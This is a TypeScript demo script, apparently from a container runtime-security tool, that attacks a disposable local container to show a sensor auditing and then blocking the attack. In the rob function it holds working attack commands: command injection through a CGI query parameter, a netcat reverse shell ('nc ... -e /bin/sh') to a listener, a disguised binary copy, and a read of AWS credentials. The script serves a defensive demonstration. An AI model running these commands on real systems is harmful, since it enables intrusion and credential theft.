import { randomBytes } from 'node:crypto';
import { release } from 'node:os';
import { setTimeout as wait } from 'node:timers/promises';
import { type RuntimeEvent, UserError } from '@breakwater/model';
import type { Guard } from '@breakwater/sensor/guards';
import { Sensor } from '@breakwater/sensor/sensor';
import { podman } from './podman.ts';
import type { Loot, Performance, Round } from './round.ts';
import { DOCKERFILE, VictimImage } from './victim-image.ts';
import { whyNotUp } from './why-not-up.ts';

const PATIENCE = 60_000;
const PORT = 4444;
/** What the attacker types into the shell that calls back. */
const COMMANDS = 'id; exit';
/** A request, of which the first argument is the path. */
const REQUEST = 'printf "GET %s HTTP/1.0\\r\\n\\r\\n" "$0" | nc -w 5 127.0.0.1 8080';
/** Files that the incident names. */
const NAMED = ['/app/cgi-bin/status', '/bin/nc', '/root/.aws/credentials'];

/** Attacks a container twice, in audit and in block, and leaves nothing behind. */
export async function perform(signal: AbortSignal, tell: (doing: string) => void): Promise<Performance> {
  const run = randomBytes(3).toString('hex');
  tell('Building a small image from one program of this machine.');
  const image = await VictimImage.build(`localhost/breakwater-demo-${run}`);
  try {
    const rounds: Round[] = [];
    for (const step of ['audit', 'block'] as const) {
      signal.throwIfAborted();
      tell(
        step === 'audit' ? 'Attacking it while the sensor only tells.' : 'Attacking it again while the sensor blocks.',
      );
      rounds.push(await attack(image, `breakwater-demo-${run}-${step}`, step, signal));
    }
    return {
      time: new Date().toISOString(),
      kernel: /^\d+\.\d+/.exec(release())?.[0] ?? release(),
      image: image.name,
      dockerfile: DOCKERFILE,
      origins: NAMED.flatMap((path) => image.originOf(path) ?? []),
      rounds,
    };
  } finally {
    await image.remove();
  }
}

async function attack(image: VictimImage, name: string, step: Round['step'], signal: AbortSignal): Promise<Round> {
  const events: RuntimeEvent[] = [];
  const guard: Guard = { programs: step, connections: step, credentials: step };
  const sensor = await Sensor.open({
    chooses: ({ container }) => container?.name === name,
    guardOf: () => guard,
    take: (event) => void events.push(event),
  });
  try {
    await podman(['run', '--detach', '--network=none', `--name=${name}`, image.name]);
    await until(
      'The web server',
      signal,
      () => events.some(({ type }) => type === 'listen'),
      () => whyNotUp(name, events),
    );
    const loot = await rob(image, name, signal);
    // What the last request did is told a moment later.
    await wait(500);
    return { step, events: [...events], loot };
  } finally {
    await sensor.close();
    // One after the other: nobody's network is taken away before them.
    for (const container of [`${name}-attacker`, name])
      await podman(['rm', '--force', '--time=0', container]).catch(() => '');
  }
}

/** The attacker: another container in the same network, which has nothing but a listener and the address of the server. */
async function rob(image: VictimImage, name: string, signal: AbortSignal): Promise<Loot> {
  const attacker = `${name}-attacker`;
  const listen = `echo '${COMMANDS}' | nc -l -p ${PORT} > /tmp/heard; sleep 60`;
  const network = ['run', '--detach', `--network=container:${name}`, `--name=${attacker}`];
  await podman([...network, image.name, '/bin/sh', '-c', listen]);
  const within = async (container: string, ...command: string[]): Promise<string> =>
    await podman(['exec', container, ...command]).catch(() => '');
  const open = `:${PORT.toString(16).toUpperCase()} `;
  await until(
    "The attacker's listener",
    signal,
    async () => (await within(attacker, '/bin/cat', '/proc/net/tcp', '/proc/net/tcp6')).includes(open),
    () => whyNotUp(attacker, []),
  );
  const send = async (injected: string): Promise<string> => {
    const query = encodeURIComponent(`web; ${injected}; echo`);
    return await within(attacker, '/bin/sh', '-c', REQUEST, `/cgi-bin/status?host=${query}`);
  };
  await send('/bin/cp /bin/sh /tmp/busybox-x; /tmp/busybox-x sh -c "echo I ran > /tmp/mined"');
  await send(`/bin/nc 127.0.0.1 ${PORT} -e /bin/sh`);
  const key = await send('/bin/cat /root/.aws/credentials');
  return {
    dropped: (await readIn(name, '/tmp/mined')).trim(),
    shell: (await within(attacker, '/bin/cat', '/tmp/heard')).trim(),
    key: key.split('\n').find((line) => line.includes('=')) ?? '',
  };
}

/** Reads a file of a container from outside: a guard does not let `cat` be the witness. */
async function readIn(container: string, path: string): Promise<string> {
  const { mkdtempSync, readFileSync, rmSync } = await import('node:fs');
  const { join } = await import('node:path');
  const { tmpdir } = await import('node:os');
  const folder = mkdtempSync(join(tmpdir(), 'breakwater-demo-'));
  try {
    await podman(['cp', `${container}:${path}`, join(folder, 'file')]);
    return readFileSync(join(folder, 'file'), 'utf8');
  } catch {
    return '';
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

async function until(
  what: string,
  signal: AbortSignal,
  holds: () => boolean | Promise<boolean>,
  why: () => Promise<string>,
): Promise<void> {
  const end = Date.now() + PATIENCE;
  while (!(await holds())) {
    signal.throwIfAborted();
    if (Date.now() > end)
      throw new UserError(`${what} did not come up within ${PATIENCE / 1000} s. ${await why()}`, {
        code: 'demo-failed',
      });
    await wait(50);
  }
}
